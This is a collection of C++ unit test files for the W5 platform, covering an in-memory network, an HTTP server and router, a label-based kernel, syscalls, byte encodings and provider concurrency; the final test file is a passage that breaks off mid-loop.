
#include "net/http_client.h"
#include "net/http_server.h"
#include "net/router.h"
#include "net/tcp.h"
#include "net/transport.h"

namespace w5::net {
namespace {

TEST(PipeTest, BytesFlowBothWays) {
  auto [a, b] = make_pipe();
  ASSERT_TRUE(a->write("ping").ok());
  char buf[16];
  auto n = b->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(std::string(buf, n.value()), "ping");
  ASSERT_TRUE(b->write("pong").ok());
  n = a->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(std::string(buf, n.value()), "pong");
}

TEST(PipeTest, EmptyReadsWouldBlockThenEofAfterClose) {
  auto [a, b] = make_pipe();
  char buf[8];
  EXPECT_EQ(b->read(buf, sizeof(buf)).error().code, "net.would_block");
  ASSERT_TRUE(a->write("x").ok());
  a->close();
  auto n = b->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(n.value(), 1u);
  n = b->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(n.value(), 0u);  // EOF after drain
}

TEST(PipeTest, WriteAfterCloseFails) {
  auto [a, b] = make_pipe();
  a->close();
  EXPECT_EQ(a->write("x").error().code, "net.closed");
  EXPECT_TRUE(a->closed());
}

TEST(InMemoryNetworkTest, DialReachesListener) {
  InMemoryNetwork network;
  std::unique_ptr<Connection> server_side;
  network.listen("providerA", [&](std::unique_ptr<Connection> conn) {
    server_side = std::move(conn);
  });
  auto client = network.dial("providerA");
  ASSERT_TRUE(client.ok());
  ASSERT_NE(server_side, nullptr);
  ASSERT_TRUE(client.value()->write("hello").ok());
  auto data = server_side->read_available();
  ASSERT_TRUE(data.ok());
  EXPECT_EQ(data.value(), "hello");

  EXPECT_EQ(network.dial("nowhere").error().code, "net.unreachable");
  network.unlisten("providerA");
  EXPECT_FALSE(network.dial("providerA").ok());
}

HttpResponse echo_handler(const HttpRequest& request) {
  return HttpResponse::text(
      200, std::string(to_string(request.method)) + " " +
               request.parsed.path + " body=" + request.body);
}

TEST(HttpServerTest, ServesOneRequestOverPipe) {
  auto [client, server] = make_pipe();
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/echo";
  request.body = "data";
  ASSERT_TRUE(client->write(request.to_wire()).ok());

  HttpServer http(echo_handler);
  auto handled = http.handle_one(*server);
  ASSERT_TRUE(handled.ok());
  EXPECT_TRUE(handled.value());

  ResponseParser parser;
  auto bytes = client->read_available();
  ASSERT_TRUE(bytes.ok());
  parser.feed(bytes.value());
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().body, "POST /echo body=data");
}

TEST(HttpServerTest, KeepAliveHandlesSequentialRequests) {
  auto [client, server] = make_pipe();
  HttpServer http(echo_handler);
  HttpClient http_client;

  for (int i = 0; i < 3; ++i) {
    HttpRequest request;
    request.target = "/r" + std::to_string(i);
    ASSERT_TRUE(client->write(request.to_wire()).ok());
    auto handled = http.handle_one(*server);
    ASSERT_TRUE(handled.ok());
    ASSERT_TRUE(handled.value());
    ResponseParser parser;
    parser.feed(client->read_available().value());
    ASSERT_TRUE(parser.complete());
    EXPECT_EQ(parser.take().body, "GET /r" + std::to_string(i) + " body=");
  }
}

TEST(HttpServerTest, ConnectionCloseHonored) {
  auto [client, server] = make_pipe();
  HttpRequest request;
  request.headers.set("Connection", "close");
  ASSERT_TRUE(client->write(request.to_wire()).ok());
  HttpServer http(echo_handler);
  auto handled = http.handle_one(*server);
  ASSERT_TRUE(handled.ok());
  EXPECT_TRUE(server->closed());
  ResponseParser parser;
  parser.feed(client->read_available().value());
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().headers.get("Connection"), "close");
}

TEST(HttpServerTest, MalformedRequestGets400AndClose) {
  auto [client, server] = make_pipe();
  ASSERT_TRUE(client->write("NONSENSE\r\n\r\n").ok());
  HttpServer http(echo_handler);
  auto handled = http.handle_one(*server);
  EXPECT_FALSE(handled.ok());
  ResponseParser parser;
  parser.feed(client->read_available().value());
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().status, 400);
  EXPECT_TRUE(server->closed());
}

TEST(HttpServerTest, OversizedRequestGets413) {
  auto [client, server] = make_pipe();
  HttpRequest request;
  request.method = Method::kPost;
  request.body = std::string(100, 'x');
  ASSERT_TRUE(client->write(request.to_wire()).ok());
  HttpServer http(echo_handler, ParserLimits{.max_body_bytes = 10});
  auto handled = http.handle_one(*server);
  EXPECT_FALSE(handled.ok());
  ResponseParser parser;
  parser.feed(client->read_available().value());
  ASSERT_TRUE(parser.complete());
  EXPECT_EQ(parser.take().status, 413);
}

TEST(HttpServerTest, TruncatedRequestReports400) {
  auto [client, server] = make_pipe();
  ASSERT_TRUE(client->write("GET / HTTP/1.1\r\nHos").ok());  // cut mid-header
  HttpServer http(echo_handler);
  auto handled = http.handle_one(*server);
  EXPECT_FALSE(handled.ok());
  EXPECT_EQ(handled.error().code, "http.incomplete");
}

TEST(HttpServerTest, IdleConnectionReturnsFalse) {
  auto [client, server] = make_pipe();
  HttpServer http(echo_handler);
  auto handled = http.handle_one(*server);
  ASSERT_TRUE(handled.ok());
  EXPECT_FALSE(handled.value());
}

TEST(RouterTest, MatchesLiteralParamAndWildcard) {
  Router router;
  std::string hit;
  router.add(Method::kGet, "/", [&](const auto&, const auto&) {
    hit = "root";
    return HttpResponse::text(200, "root");
  });
  router.add(Method::kGet, "/dev/:developer/:app",
             [&](const auto&, const RouteParams& params) {
               hit = params.at("developer") + "/" + params.at("app");
               return HttpResponse::text(200, "app");
             });
  router.add(Method::kGet, "/static/*path",
             [&](const auto&, const RouteParams& params) {
               hit = "static:" + params.at("path");
               return HttpResponse::text(200, "file");
             });

  HttpRequest request;
  request.parsed = *parse_request_target("/dev/devA/crop");
  EXPECT_EQ(router.dispatch(request).status, 200);
  EXPECT_EQ(hit, "devA/crop");

  request.parsed = *parse_request_target("/static/css/site.css");
  router.dispatch(request);
  EXPECT_EQ(hit, "static:css/site.css");

  request.parsed = *parse_request_target("/");
  router.dispatch(request);
  EXPECT_EQ(hit, "root");
}

TEST(RouterTest, Distinguishes404From405) {
  Router router;
  router.add(Method::kPost, "/submit",
             [](const auto&, const auto&) { return HttpResponse::text(200, ""); });
  HttpRequest request;
  request.method = Method::kGet;
  request.parsed = *parse_request_target("/submit");
  EXPECT_EQ(router.dispatch(request).status, 405);
  request.parsed = *parse_request_target("/other");
  EXPECT_EQ(router.dispatch(request).status, 404);
}

TEST(RouterTest, RegistrationOrderIsPriority) {
  Router router;
  router.add(Method::kGet, "/a/:x", [](const auto&, const auto&) {
    return HttpResponse::text(200, "param");
  });
  router.add(Method::kGet, "/a/literal", [](const auto&, const auto&) {
    return HttpResponse::text(200, "literal");
  });
  HttpRequest request;
  request.parsed = *parse_request_target("/a/literal");
  EXPECT_EQ(router.dispatch(request).body, "param");  // first registered wins
}

TEST(RouterTest, RejectsMalformedPatterns) {
  Router router;
  auto noop = [](const auto&, const auto&) { return HttpResponse(); };
  EXPECT_THROW(router.add(Method::kGet, "no-slash", noop),
               std::invalid_argument);
  EXPECT_THROW(router.add(Method::kGet, "/a/:", noop), std::invalid_argument);
  EXPECT_THROW(router.add(Method::kGet, "/a/*", noop), std::invalid_argument);
  EXPECT_THROW(router.add(Method::kGet, "/a/*x/b", noop),
               std::invalid_argument);
}

TEST(TcpTest, RoundTripOverRealSockets) {
  TcpListener listener;
  ASSERT_TRUE(listener.listen(0).ok());
  const std::uint16_t port = listener.port();
  ASSERT_GT(port, 0);

  std::thread server_thread([&] {
    auto conn = listener.accept();
    ASSERT_TRUE(conn.ok());
    HttpServer http(echo_handler);
    http.serve(*conn.value());
  });

  auto client = tcp_connect(port);
  ASSERT_TRUE(client.ok());
  HttpClient http_client;
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/tcp";
  request.body = "over the wire";
  request.headers.set("Connection", "close");
  auto response = http_client.roundtrip(*client.value(), request);
  ASSERT_TRUE(response.ok());
  EXPECT_EQ(response.value().status, 200);
  EXPECT_EQ(response.value().body, "POST /tcp body=over the wire");
  client.value()->close();
  server_thread.join();
  listener.close();
}

}  // namespace
}  // namespace w5::net
