#include <gtest/gtest.h>

#include "os/kernel.h"

namespace w5::os {
namespace {

using difc::CapabilitySet;
using difc::Label;
using difc::LabelState;
using difc::minus;
using difc::plus;
using difc::Tag;
using difc::TagPurpose;

TEST(KernelTest, SpawnTrustedCreatesLiveProcess) {
  Kernel kernel;
  const Pid pid = kernel.spawn_trusted("gateway", LabelState({}, {}, {}));
  ASSERT_NE(kernel.find(pid), nullptr);
  EXPECT_EQ(kernel.find(pid)->status, ProcessStatus::kRunning);
  EXPECT_EQ(kernel.live_process_count(), 1u);
}

TEST(KernelTest, CreateTagGrantsDualToCreator) {
  Kernel kernel;
  const Pid pid = kernel.spawn_trusted("alloc", LabelState({}, {}, {}));
  auto tag = kernel.create_tag(pid, "sec(bob)", TagPurpose::kSecrecy);
  ASSERT_TRUE(tag.ok());
  EXPECT_TRUE(kernel.find(pid)->labels.owned().has_dual(tag.value()));
  EXPECT_EQ(kernel.tags().describe(tag.value()), "sec(bob)");
}

TEST(KernelTest, GrantRequiresOwnership) {
  Kernel kernel;
  const Pid owner = kernel.spawn_trusted("owner", LabelState({}, {}, {}));
  const Pid other = kernel.spawn_trusted("other", LabelState({}, {}, {}));
  const Pid third = kernel.spawn_trusted("third", LabelState({}, {}, {}));
  auto tag = kernel.create_tag(owner, "t", TagPurpose::kSecrecy);
  ASSERT_TRUE(tag.ok());

  EXPECT_FALSE(kernel.grant(other, third, minus(tag.value())).ok());
  EXPECT_TRUE(kernel.grant(owner, other, minus(tag.value())).ok());
  EXPECT_TRUE(kernel.find(other)->labels.owned().has_minus(tag.value()));
  // Now `other` can re-grant.
  EXPECT_TRUE(kernel.grant(other, third, minus(tag.value())).ok());
  // Kernel can always grant.
  EXPECT_TRUE(kernel.grant(kKernelPid, third, plus(tag.value())).ok());
}

TEST(KernelTest, GlobalCapsAreUniversallyEffective) {
  Kernel kernel;
  auto tag = kernel.create_tag(kKernelPid, "sec(u)", TagPurpose::kSecrecy);
  ASSERT_TRUE(tag.ok());
  kernel.add_global_capability(plus(tag.value()));

  const Pid app = kernel.spawn_trusted("app", LabelState({}, {}, {}));
  // App owns nothing of its own, but Ô lets it raise.
  EXPECT_TRUE(kernel.raise_secrecy(app, Label{tag.value()}).ok());
  EXPECT_EQ(kernel.find(app)->labels.secrecy(), Label{tag.value()});
  // Lowering still needs t-, which is NOT global.
  EXPECT_FALSE(kernel.set_secrecy(app, Label{}).ok());
}

TEST(KernelTest, SecrecyChangesEnforceCapabilities) {
  Kernel kernel;
  auto tag = kernel.create_tag(kKernelPid, "s", TagPurpose::kSecrecy);
  const Pid app = kernel.spawn_trusted("app", LabelState({}, {}, {}));
  EXPECT_FALSE(kernel.raise_secrecy(app, Label{tag.value()}).ok());
  ASSERT_TRUE(kernel.grant(kKernelPid, app, plus(tag.value())).ok());
  EXPECT_TRUE(kernel.raise_secrecy(app, Label{tag.value()}).ok());
}

TEST(KernelTest, IntegrityChangesEnforceCapabilities) {
  Kernel kernel;
  auto wp = kernel.create_tag(kKernelPid, "wp(bob)", TagPurpose::kIntegrity);
  const Pid app = kernel.spawn_trusted("app", LabelState({}, {}, {}));
  EXPECT_FALSE(kernel.set_integrity(app, Label{wp.value()}).ok());
  ASSERT_TRUE(kernel.grant(kKernelPid, app, plus(wp.value())).ok());
  EXPECT_TRUE(kernel.set_integrity(app, Label{wp.value()}).ok());
  EXPECT_EQ(kernel.find(app)->labels.integrity(), Label{wp.value()});
}

TEST(KernelTest, SpawnChildCannotExceedParent) {
  Kernel kernel;
  auto tag = kernel.create_tag(kKernelPid, "s", TagPurpose::kSecrecy);
  const Pid parent = kernel.spawn_trusted("parent", LabelState({}, {}, {}));

  // Child with capabilities the parent lacks: denied.
  auto denied = kernel.spawn(
      parent, "child",
      LabelState({}, {}, CapabilitySet{minus(tag.value())}));
  EXPECT_FALSE(denied.ok());
  EXPECT_EQ(denied.error().code, "cap.denied");

  // Child with secrecy the parent cannot reach: denied.
  auto denied2 =
      kernel.spawn(parent, "child", LabelState({tag.value()}, {}, {}));
  EXPECT_FALSE(denied2.ok());

  // Grant the parent t+ and the same spawn succeeds.
  ASSERT_TRUE(kernel.grant(kKernelPid, parent, plus(tag.value())).ok());
  auto allowed =
      kernel.spawn(parent, "child", LabelState({tag.value()}, {}, {}));
  ASSERT_TRUE(allowed.ok());
  EXPECT_EQ(kernel.find(allowed.value())->labels.secrecy(),
            Label{tag.value()});
}

TEST(KernelTest, SpawnPassesOwnedCapabilitiesDown) {
  Kernel kernel;
  const Pid parent = kernel.spawn_trusted("parent", LabelState({}, {}, {}));
  auto tag = kernel.create_tag(parent, "t", TagPurpose::kSecrecy);
  auto child = kernel.spawn(
      parent, "child",
      LabelState({}, {}, CapabilitySet{plus(tag.value())}));
  ASSERT_TRUE(child.ok());
  EXPECT_TRUE(
      kernel.find(child.value())->labels.owned().has_plus(tag.value()));
}

TEST(KernelTest, KillAndExitStopProcesses) {
  Kernel kernel;
  const Pid pid = kernel.spawn_trusted("victim", LabelState({}, {}, {}));
  EXPECT_TRUE(kernel.kill(pid, "test kill").ok());
  EXPECT_EQ(kernel.find(pid)->status, ProcessStatus::kKilled);
  EXPECT_EQ(kernel.find(pid)->exit_reason, "test kill");
  // Dead processes reject further syscalls.
  EXPECT_FALSE(kernel.set_secrecy(pid, {}).ok());
  EXPECT_FALSE(kernel.kill(pid, "again").ok());
  EXPECT_EQ(kernel.live_process_count(), 0u);
}

TEST(KernelTest, DropCapabilityIsIrrevocable) {
  Kernel kernel;
  const Pid pid = kernel.spawn_trusted("d", LabelState({}, {}, {}));
  auto tag = kernel.create_tag(pid, "t", TagPurpose::kSecrecy);
  ASSERT_TRUE(kernel.drop_capability(pid, minus(tag.value())).ok());
  EXPECT_FALSE(kernel.find(pid)->labels.owned().has_minus(tag.value()));
  // After dropping t-, the process can contaminate itself but never
  // declassify again.
  ASSERT_TRUE(kernel.raise_secrecy(pid, Label{tag.value()}).ok());
  EXPECT_FALSE(kernel.set_secrecy(pid, Label{}).ok());
}

TEST(KernelTest, EffectiveStateOfKernelOwnsEverything) {
  Kernel kernel;
  auto a = kernel.create_tag(kKernelPid, "a", TagPurpose::kSecrecy);
  auto b = kernel.create_tag(kKernelPid, "b", TagPurpose::kIntegrity);
  auto state = kernel.effective_state(kKernelPid);
  ASSERT_TRUE(state.ok());
  EXPECT_TRUE(state.value().owned().has_dual(a.value()));
  EXPECT_TRUE(state.value().owned().has_dual(b.value()));
}

TEST(KernelTest, ChargeKillsOverQuotaProcess) {
  Kernel kernel;
  ResourceContainer container("app", {.cpu_ticks = 10});
  const Pid pid =
      kernel.spawn_trusted("hog", LabelState({}, {}, {}), &container);
  EXPECT_TRUE(kernel.charge(pid, Resource::kCpu, 10).ok());
  const auto status = kernel.charge(pid, Resource::kCpu, 1);
  EXPECT_FALSE(status.ok());
  EXPECT_EQ(status.error().code, "quota.exceeded");
  EXPECT_EQ(kernel.find(pid)->status, ProcessStatus::kKilled);
}

}  // namespace
}  // namespace w5::os
