#include <gtest/gtest.h>

#include "util/bytes.h"
#include "util/rng.h"

namespace w5::util {
namespace {

TEST(HexTest, EncodesKnownVectors) {
  EXPECT_EQ(hex_encode(""), "");
  EXPECT_EQ(hex_encode(std::string("\x00\xff\x10", 3)), "00ff10");
  EXPECT_EQ(hex_encode("abc"), "616263");
}

TEST(HexTest, DecodesKnownVectors) {
  EXPECT_EQ(hex_decode("616263"), "abc");
  EXPECT_EQ(hex_decode("00FF10"), std::string("\x00\xff\x10", 3));
  EXPECT_EQ(hex_decode(""), "");
}

TEST(HexTest, RejectsOddLengthAndBadDigits) {
  EXPECT_FALSE(hex_decode("a").has_value());
  EXPECT_FALSE(hex_decode("zz").has_value());
  EXPECT_FALSE(hex_decode("0g").has_value());
}

TEST(Base64Test, Rfc4648Vectors) {
  EXPECT_EQ(base64_encode(""), "");
  EXPECT_EQ(base64_encode("f"), "Zg==");
  EXPECT_EQ(base64_encode("fo"), "Zm8=");
  EXPECT_EQ(base64_encode("foo"), "Zm9v");
  EXPECT_EQ(base64_encode("foob"), "Zm9vYg==");
  EXPECT_EQ(base64_encode("fooba"), "Zm9vYmE=");
  EXPECT_EQ(base64_encode("foobar"), "Zm9vYmFy");
}

TEST(Base64Test, DecodesVectors) {
  EXPECT_EQ(base64_decode("Zm9vYmFy"), "foobar");
  EXPECT_EQ(base64_decode("Zg=="), "f");
  EXPECT_EQ(base64_decode("Zg"), "f");  // tolerate missing padding
}

TEST(Base64Test, RejectsIllegalCharacters) {
  EXPECT_FALSE(base64_decode("Zm9v!").has_value());
  EXPECT_FALSE(base64_decode("Z").has_value());  // 6 bits cannot be a byte
}

TEST(Base64Test, UrlSafeUsesDashUnderscoreNoPadding) {
  // 0xfb 0xff encodes to "+/8=" in standard, "-_8" in url-safe.
  const std::string bytes("\xfb\xff", 2);
  EXPECT_EQ(base64_encode(bytes), "+/8=");
  EXPECT_EQ(base64url_encode(bytes), "-_8");
  EXPECT_EQ(base64url_decode("-_8"), bytes);
}

class Base64RoundTrip : public ::testing::TestWithParam<std::size_t> {};

TEST_P(Base64RoundTrip, RandomBytesSurviveBothAlphabets) {
  Rng rng(GetParam() * 7919 + 13);
  const std::string bytes = rng.next_bytes(GetParam());
  EXPECT_EQ(base64_decode(base64_encode(bytes)), bytes);
  EXPECT_EQ(base64url_decode(base64url_encode(bytes)), bytes);
  EXPECT_EQ(hex_decode(hex_encode(bytes)), bytes);
}

INSTANTIATE_TEST_SUITE_P(Sizes, Base64RoundTrip,
                         ::testing::Values(0, 1, 2, 3, 4, 5, 31, 32, 33, 63,
                                           64, 65, 255, 256, 1000, 4096));

}  // namespace
}  // namespace w5::util
