// The Unix-flavored syscall facade (§2): fd-based file I/O and pipes over
// the labeled substrate — existing software's shape, W5's rules.
#include <gtest/gtest.h>

#include "os/syscalls.h"

namespace w5::os {
namespace {

using difc::Label;
using difc::LabelState;
using difc::ObjectLabels;
using difc::plus;
using difc::Tag;
using difc::TagPurpose;

class SyscallsTest : public ::testing::Test {
 protected:
  SyscallsTest() : fs_(kernel_), ipc_(kernel_), sys_(kernel_, fs_, ipc_) {}

  void SetUp() override {
    secret_ = kernel_.create_tag(kKernelPid, "sec(bob)",
                                 TagPurpose::kSecrecy).value();
    kernel_.add_global_capability(plus(secret_));
    ASSERT_TRUE(fs_.create(kKernelPid, "/hello.txt", {}, "hello world").ok());
    ASSERT_TRUE(fs_.create(kKernelPid, "/secret.txt",
                           ObjectLabels{Label{secret_}, {}}, "classified")
                    .ok());
    pid_ = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  }

  Kernel kernel_;
  FileSystem fs_;
  IpcBus ipc_;
  Syscalls sys_;
  Tag secret_;
  Pid pid_ = 0;
};

TEST_F(SyscallsTest, OpenReadCloseLifecycle) {
  auto fd = sys_.open(pid_, "/hello.txt", OpenMode::kRead);
  ASSERT_TRUE(fd.ok());
  EXPECT_GE(fd.value(), 3);  // 0/1/2 reserved
  EXPECT_EQ(sys_.read(pid_, fd.value(), 5).value(), "hello");
  EXPECT_EQ(sys_.read(pid_, fd.value(), 100).value(), " world");
  EXPECT_EQ(sys_.read(pid_, fd.value(), 10).value(), "");  // EOF
  EXPECT_TRUE(sys_.close(pid_, fd.value()).ok());
  EXPECT_EQ(sys_.read(pid_, fd.value(), 1).error().code, "sys.badf");
  EXPECT_EQ(sys_.close(pid_, fd.value()).error().code, "sys.badf");
}

TEST_F(SyscallsTest, OpenErrors) {
  EXPECT_EQ(sys_.open(pid_, "/missing", OpenMode::kRead).error().code,
            "fs.not_found");
  ASSERT_TRUE(fs_.mkdir(kKernelPid, "/dir", {}).ok());
  EXPECT_EQ(sys_.open(pid_, "/dir", OpenMode::kRead).error().code,
            "sys.isdir");
  EXPECT_EQ(sys_.read(pid_, 99, 1).error().code, "sys.badf");
}

TEST_F(SyscallsTest, ReadingSecretsContaminates) {
  auto fd = sys_.open(pid_, "/secret.txt", OpenMode::kRead);
  ASSERT_TRUE(fd.ok());
  // Open alone does not contaminate (stat is clearance-bounded)...
  EXPECT_EQ(kernel_.find(pid_)->labels.secrecy(), Label{});
  // ...the first read does.
  EXPECT_EQ(sys_.read(pid_, fd.value(), 100).value(), "classified");
  EXPECT_EQ(kernel_.find(pid_)->labels.secrecy(), Label{secret_});
}

TEST_F(SyscallsTest, WriteModesAndOffsets) {
  auto fd = sys_.open(pid_, "/hello.txt", OpenMode::kWrite);
  ASSERT_TRUE(fd.ok());
  ASSERT_TRUE(sys_.write(pid_, fd.value(), "HELLO").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/hello.txt").value(), "HELLO world");
  // Continue writing from the advanced offset.
  ASSERT_TRUE(sys_.write(pid_, fd.value(), "-WORLD").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/hello.txt").value(), "HELLO-WORLD");

  // Read-only fd refuses writes.
  auto ro = sys_.open(pid_, "/hello.txt", OpenMode::kRead);
  ASSERT_TRUE(ro.ok());
  EXPECT_EQ(sys_.write(pid_, ro.value(), "x").error().code, "sys.perm");

  // Append mode always lands at EOF.
  auto ap = sys_.open(pid_, "/hello.txt", OpenMode::kAppend);
  ASSERT_TRUE(ap.ok());
  ASSERT_TRUE(sys_.write(pid_, ap.value(), "!").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/hello.txt").value(), "HELLO-WORLD!");
}

TEST_F(SyscallsTest, CreateStampsLabelsAndSeekExtends) {
  auto fd = sys_.open(pid_, "/new.txt", OpenMode::kCreate,
                      ObjectLabels{{}, {}});
  ASSERT_TRUE(fd.ok());
  ASSERT_TRUE(sys_.write(pid_, fd.value(), "abc").ok());
  auto pos = sys_.lseek(pid_, fd.value(), 6);
  ASSERT_TRUE(pos.ok());
  EXPECT_EQ(pos.value(), 6u);
  ASSERT_TRUE(sys_.write(pid_, fd.value(), "xyz").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/new.txt").value(),
            std::string("abc\0\0\0xyz", 9));
  EXPECT_EQ(sys_.lseek(pid_, fd.value(), -1).error().code, "sys.inval");
  auto st = sys_.fstat(pid_, fd.value());
  ASSERT_TRUE(st.ok());
  EXPECT_EQ(st.value().size, 9u);
}

TEST_F(SyscallsTest, DupGivesIndependentOffset) {
  auto fd = sys_.open(pid_, "/hello.txt", OpenMode::kRead);
  ASSERT_TRUE(fd.ok());
  ASSERT_TRUE(sys_.read(pid_, fd.value(), 6).ok());
  auto dup_fd = sys_.dup(pid_, fd.value());
  ASSERT_TRUE(dup_fd.ok());
  // Dup copies the current offset but advances independently afterwards.
  EXPECT_EQ(sys_.read(pid_, dup_fd.value(), 5).value(), "world");
  EXPECT_EQ(sys_.read(pid_, fd.value(), 5).value(), "world");
  EXPECT_EQ(sys_.open_fd_count(pid_), 2u);
  sys_.close_all(pid_);
  EXPECT_EQ(sys_.open_fd_count(pid_), 0u);
}

TEST_F(SyscallsTest, PipesCarryFlowCheckedMessages) {
  const Pid other = kernel_.spawn_trusted("other", LabelState({}, {}, {}));
  auto fds = sys_.pipe(pid_, other);
  ASSERT_TRUE(fds.ok());
  const auto [mine, theirs] = fds.value();
  ASSERT_TRUE(sys_.write(pid_, mine, "through the pipe").ok());
  EXPECT_EQ(sys_.read(other, theirs, 100).value(), "through the pipe");
  EXPECT_EQ(sys_.read(other, theirs, 100).value(), "");  // drained
  EXPECT_EQ(sys_.lseek(pid_, mine, 0).error().code, "sys.espipe");
  EXPECT_EQ(sys_.fstat(pid_, mine).error().code, "sys.inval");
}

TEST_F(SyscallsTest, PipeContaminationMirrorsIpc) {
  const Pid other = kernel_.spawn_trusted("other", LabelState({}, {}, {}));
  auto fds = sys_.pipe(pid_, other);
  ASSERT_TRUE(fds.ok());
  // Contaminate the writer, then send: the reader gets contaminated on
  // receive (auto-raise default), exactly like raw IPC.
  ASSERT_TRUE(kernel_.raise_secrecy(pid_, Label{secret_}).ok());
  ASSERT_TRUE(sys_.write(pid_, fds.value().first, "tainted").ok());
  EXPECT_EQ(sys_.read(other, fds.value().second, 100).value(), "tainted");
  EXPECT_EQ(kernel_.find(other)->labels.secrecy(), Label{secret_});
}

TEST_F(SyscallsTest, WriteProtectionAppliesThroughFds) {
  const Tag wp =
      kernel_.create_tag(kKernelPid, "wp(bob)", TagPurpose::kIntegrity)
          .value();
  ASSERT_TRUE(fs_.create(kKernelPid, "/protected.txt",
                         ObjectLabels{{}, Label{wp}}, "keep me")
                  .ok());
  auto fd = sys_.open(pid_, "/protected.txt", OpenMode::kWrite);
  ASSERT_TRUE(fd.ok());
  EXPECT_FALSE(sys_.write(pid_, fd.value(), "vandalized").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/protected.txt").value(), "keep me");
}

}  // namespace
}  // namespace w5::os
