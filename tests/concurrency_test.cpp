// Concurrency: many worker threads hammering one Provider through the
// public HTTP surface, plus unit coverage of the flow-memo epoch
// invalidation that keeps the DIFC fast path sound (DESIGN.md
// "Concurrency model").
//
// The provider promises three things under concurrency, each asserted
// here: no lost updates (a record's version counts every successful
// put), no torn reads (a reader sees one put's fields, never a blend of
// two), and no cross-user leaks (the perimeter blocks bob from alice's
// secrets no matter how many threads are racing).
#include <gtest/gtest.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "core/gateway.h"
#include "core/provider.h"
#include "difc/flow.h"
#include "difc/label_table.h"
#include "difc/tag_registry.h"

namespace w5 {
namespace {

using net::HttpResponse;
using net::Method;
using platform::AppContext;
using platform::Module;
using platform::Provider;
using platform::ProviderConfig;

constexpr char kSecretMarker[] = "alice-top-secret-payload";

class ProviderConcurrencyTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(provider_.signup("alice", "password1").ok());
    ASSERT_TRUE(provider_.signup("bob", "password2").ok());
    alice_ = provider_.login("alice", "password1").value();
    bob_ = provider_.login("bob", "password2").value();

    // Alice's secret — the thing that must never reach bob.
    ASSERT_EQ(provider_
                  .http(Method::kPost, "/data/secrets/s1",
                        std::string(R"({"secret":")") + kSecretMarker + "\"}",
                        alice_)
                  .status,
              201);

    // A third-party viewer app that reads the secret; when bob invokes
    // it the export check must stop the response at the perimeter.
    Module viewer;
    viewer.developer = "mallory";
    viewer.name = "viewer";
    viewer.version = "1.0";
    viewer.handler = [](AppContext& ctx) {
      auto secret = ctx.get_record("secrets", "s1");
      if (!secret.ok()) return HttpResponse::text(404, "none");
      return HttpResponse::text(200, secret.value().data.dump());
    };
    ASSERT_TRUE(provider_.modules().add(viewer).ok());
  }

  util::WallClock clock_;
  Provider provider_{ProviderConfig{}, clock_};
  std::string alice_;
  std::string bob_;
};

// 8 threads × mixed reads/writes/exports against one provider. Even
// alice threads share one contended record; odd bob threads repeatedly
// attempt to read alice's secret, directly and through the viewer app.
TEST_F(ProviderConcurrencyTest, MixedWorkloadNoLostUpdatesTornReadsOrLeaks) {
  constexpr int kThreads = 8;
  constexpr int kIters = 150;

  // The shared record everyone named "alice" fights over. Created once
  // here (version 1); each successful overwrite must bump the version
  // by exactly one — any lost update shows up as version < puts.
  ASSERT_EQ(provider_.http(Method::kPost, "/data/shared/counter",
                           R"({"n":0,"m":0})", alice_)
                .status,
            201);
  std::atomic<int> shared_puts{1};

  auto worker = [&](int thread_id) {
    const bool is_alice = thread_id % 2 == 0;
    const std::string& session = is_alice ? alice_ : bob_;
    const std::string my_record =
        "/data/notes/t" + std::to_string(thread_id);

    for (int i = 1; i <= kIters; ++i) {
      // Private record write: both fields carry the same value, so a
      // torn read (one field from put k, the other from put k') is
      // detectable as a != b.
      const std::string body = "{\"a\":" + std::to_string(i) +
                               ",\"b\":" + std::to_string(i) + "}";
      EXPECT_EQ(provider_.http(Method::kPost, my_record, body, session).status,
                201);

      const auto read = provider_.http(Method::kGet, my_record, "", session);
      EXPECT_EQ(read.status, 200);
      auto parsed = util::Json::parse(read.body);
      ASSERT_TRUE(parsed.ok()) << read.body;
      EXPECT_EQ(parsed.value().at("a").as_int(), parsed.value().at("b").as_int())
          << "torn read: " << read.body;

      if (is_alice) {
        // Contended write to the shared record.
        const std::string update = "{\"n\":" + std::to_string(i) +
                                   ",\"m\":" + std::to_string(thread_id) + "}";
        if (provider_
                .http(Method::kPost, "/data/shared/counter", update, alice_)
                .status == 201)
          shared_puts.fetch_add(1, std::memory_order_relaxed);
      } else {
        // Attack lane: bob tries the secret through the app and
        // directly. Both must fail, and the marker must never appear.
        const auto via_app =
            provider_.http(Method::kGet, "/dev/mallory/viewer", "", bob_);
        EXPECT_EQ(via_app.status, 403);
        EXPECT_EQ(via_app.body.find(kSecretMarker), std::string::npos);

        const auto direct =
            provider_.http(Method::kGet, "/data/secrets/s1", "", bob_);
        EXPECT_NE(direct.status, 200);
        EXPECT_EQ(direct.body.find(kSecretMarker), std::string::npos);
      }

      // Sprinkle registry/audit/search reads into the mix.
      if (i % 32 == 0) {
        EXPECT_EQ(provider_.http(Method::kGet, "/stats", "", session).status,
                  200);
      }
    }
  };

  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) threads.emplace_back(worker, t);
  for (auto& thread : threads) thread.join();

  // Lost-update check: the version counts every successful put exactly
  // once, even though four threads raced on the same shard entry.
  const auto shared =
      provider_.store().get(os::kKernelPid, "shared", "counter");
  ASSERT_TRUE(shared.ok());
  EXPECT_EQ(shared.value().version,
            static_cast<std::uint64_t>(shared_puts.load()));

  // Every private record converged on its thread's final write.
  for (int t = 0; t < kThreads; ++t) {
    const auto record = provider_.store().get(os::kKernelPid, "notes",
                                              "t" + std::to_string(t));
